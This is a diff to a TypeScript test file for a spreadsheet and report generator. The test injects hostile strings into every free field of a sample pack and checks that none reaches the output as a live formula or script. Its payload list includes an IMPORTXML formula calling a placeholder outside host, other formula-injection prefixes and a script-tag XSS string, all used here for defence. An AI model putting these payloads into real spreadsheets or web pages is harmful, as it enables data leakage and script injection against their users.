@@ -81,62 +81,63 @@ describe('a reason typed in the panel', () => {
   );
 });
 
-type Baris = string[][];
+const DI_PAK = [
+  '=IMPORTXML("http://x.example";"//a")',
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  '<script>alert(1)</script> & ]]>',
+  '😀 \u202Eكتابة',
+  "'=1+1",
+] as const;
+const BEBAS: readonly string[] = [
+  ...['Nama', 'Jabatan', 'Indikator', 'Sasaran', 'Satuan', 'Bukti Dukung', 'Faktor Pendorong', 'Faktor Penghambat'],
+  ...['Tindak Lanjut', 'Program', 'Kegiatan', 'Teks', 'Penyusun', 'Definisi Operasional', 'Formulasi', 'Sumber Data'],
+];
 
-/** The small sample with `teks` in every free field; names stay told apart by what stood there. */
-async function hostilePack(teks: string): Promise<string> {
+/** The small sample with such a text before what stands in every free field, another one each time. */
+async function hostilePack(): Promise<string> {
   const path = resolve(import.meta.dirname, '../../samples/bakesbangpol.xlsx');
   const sheets = await readPackFile(readFileSync(path), 'sampel');
-  const BEBAS = new Set(
-    'Nama,Jabatan,Indikator,Sasaran,Satuan,Bukti Dukung,Faktor Pendorong,Faktor Penghambat,Tindak Lanjut,Program,Kegiatan,Teks,Penyusun,Definisi Operasional,Formulasi,Sumber Data,Aksi,Lokasi Fisik'.split(
-      ',',
-    ),
-  );
+  let ke = 0;
   const isi = sheets.map(({ nama, baris }) => {
-    const rows: Baris = baris.map((row) => [...row]);
-    const kepala = rows.findIndex((row) => row.filter((each) => each !== '').length > 1);
-    for (const row of rows.slice(kepala + 1))
-      for (const [i, judul] of (rows[kepala] ?? []).entries())
-        if (BEBAS.has(judul) && (row[i] ?? '') !== '') row[i] = `${teks} ${row[i]}`;
-    return { name: nama, rows };
+    const kepala = baris.findIndex((row) => row.filter((each) => each !== '').length > 1);
+    const hostile = (teks: string, kolom: number): string =>
+      BEBAS.includes(baris[kepala]?.[kolom] ?? '') && teks !== '' ? `${DI_PAK[ke++ % DI_PAK.length]} ${teks}` : teks;
+    return { name: nama, rows: baris.map((row, i) => (i > kepala ? row.map(hostile) : [...row])) };
   });
   const folder = mkdtempSync(join(tmpdir(), 'paket-'));
   writeFileSync(join(folder, 'paket.xlsx'), await writeXlsx({ sheets: isi }));
   return folder;
 }
 
-async function playHostile(teks: string): Promise<string> {
-  const folder = await hostilePack(teks);
-  const args = ['--sop', 'depok-pengumpulan', '--input', join(folder, 'paket.xlsx'), '--period', 'TW I'];
-  await runCycle(parseArguments([...args, '--out', folder]), { code, tell: () => undefined });
-  return folder;
-}
+describe('such texts in every field of a pack and of the isian', () => {
+  let folder = '';
+  beforeAll(async () => {
+    folder = await hostilePack();
+    const args = ['--sop', 'depok-pengumpulan', '--input', join(folder, 'paket.xlsx'), '--period', 'TW I'];
+    await runCycle(parseArguments([...args, '--out', folder]), { code, tell: () => undefined });
+  });
+  afterAll(() => rmSync(folder, { recursive: true }));
 
-test.each([
-  '=IMPORTXML("http://x.example";"//a")',
-  '+1+1',
-  '-1+1',
-  '@SUM(1)',
-  '<script>alert(1)</script> & ]]> 😀 \u202Eكتابة',
-])('%s in every field of a pack and of the isian goes through to papers that open', async (teks) => {
-  const folder = await playHostile(teks);
-  const buku = JSON.parse(readFileSync(join(folder, 'buku-kerja.json'), 'utf8')) as Spreadsheet;
-  expect(rumusAsing(buku)).toEqual([]);
-  const bukti = sel(buku).filter(({ userEnteredValue }) => userEnteredValue?.stringValue?.startsWith(teks));
-  expect(bukti.length).toBeGreaterThan(50);
-  const xlsx = unzipSync(readFileSync(join(folder, 'buku-kerja.xlsx')));
-  const rumus = Object.entries(xlsx)
-    .filter(([nama]) => nama.startsWith('xl/worksheets/sheet'))
-    .flatMap(([, byte]) => strFromU8(byte).match(/<f[ >].*?<\/f>/g) ?? []);
-  expect(rumus.length).toBeGreaterThan(0);
-  expect(rumus.filter((satu) => ASING.test(satu.replace(/<\/?f[^>]*>/g, '')))).toEqual([]);
-  for (const nama of ['buku-kerja.xlsx', 'pengukuran-kinerja.docx', 'laporan-kinerja.docx'])
-    expect([nama, (await validateFile(join(folder, nama))).errors]).toEqual([nama, []]);
-  const naskah = strFromU8(
-    unzipSync(readFileSync(join(folder, 'laporan-kinerja.docx')))['word/document.xml'] ?? new Uint8Array(),
-  );
-  expect(naskah).not.toContain('<script>');
-  rmSync(folder, { recursive: true });
+  test.each(DI_PAK)('%s stands in the workbook as text', (teks) => {
+    const buku = JSON.parse(readFileSync(join(folder, 'buku-kerja.json'), 'utf8')) as Spreadsheet;
+    const ada = sel(buku).filter(({ userEnteredValue }) => userEnteredValue?.stringValue?.startsWith(teks));
+    expect(ada.length).toBeGreaterThan(5);
+    expect(rumusAsing(buku)).toEqual([]);
+  });
+
+  test('no formula of the .xlsx holds any of them', () => {
+    const isi = Object.entries(unzipSync(readFileSync(join(folder, 'buku-kerja.xlsx'))));
+    const lembar = isi.filter(([nama]) => nama.startsWith('xl/worksheets/sheet')).map(([, byte]) => strFromU8(byte));
+    const rumus = lembar.flatMap((xml) => xml.match(/<f[ >].*?<\/f>/g) ?? []).map((f) => f.replace(/<[^>]*>/g, ''));
+    expect(rumus.length).toBeGreaterThan(0);
+    expect(rumus.filter((satu) => ASING.test(satu))).toEqual([]);
+  });
+
+  test.each(['buku-kerja.xlsx', 'pengukuran-kinerja.docx', 'laporan-kinerja.docx'])('%s opens', async (nama) => {
+    expect((await validateFile(join(folder, nama))).errors).toEqual([]);
+  });
 });
 
 describe('what staff type into their tab', () => {
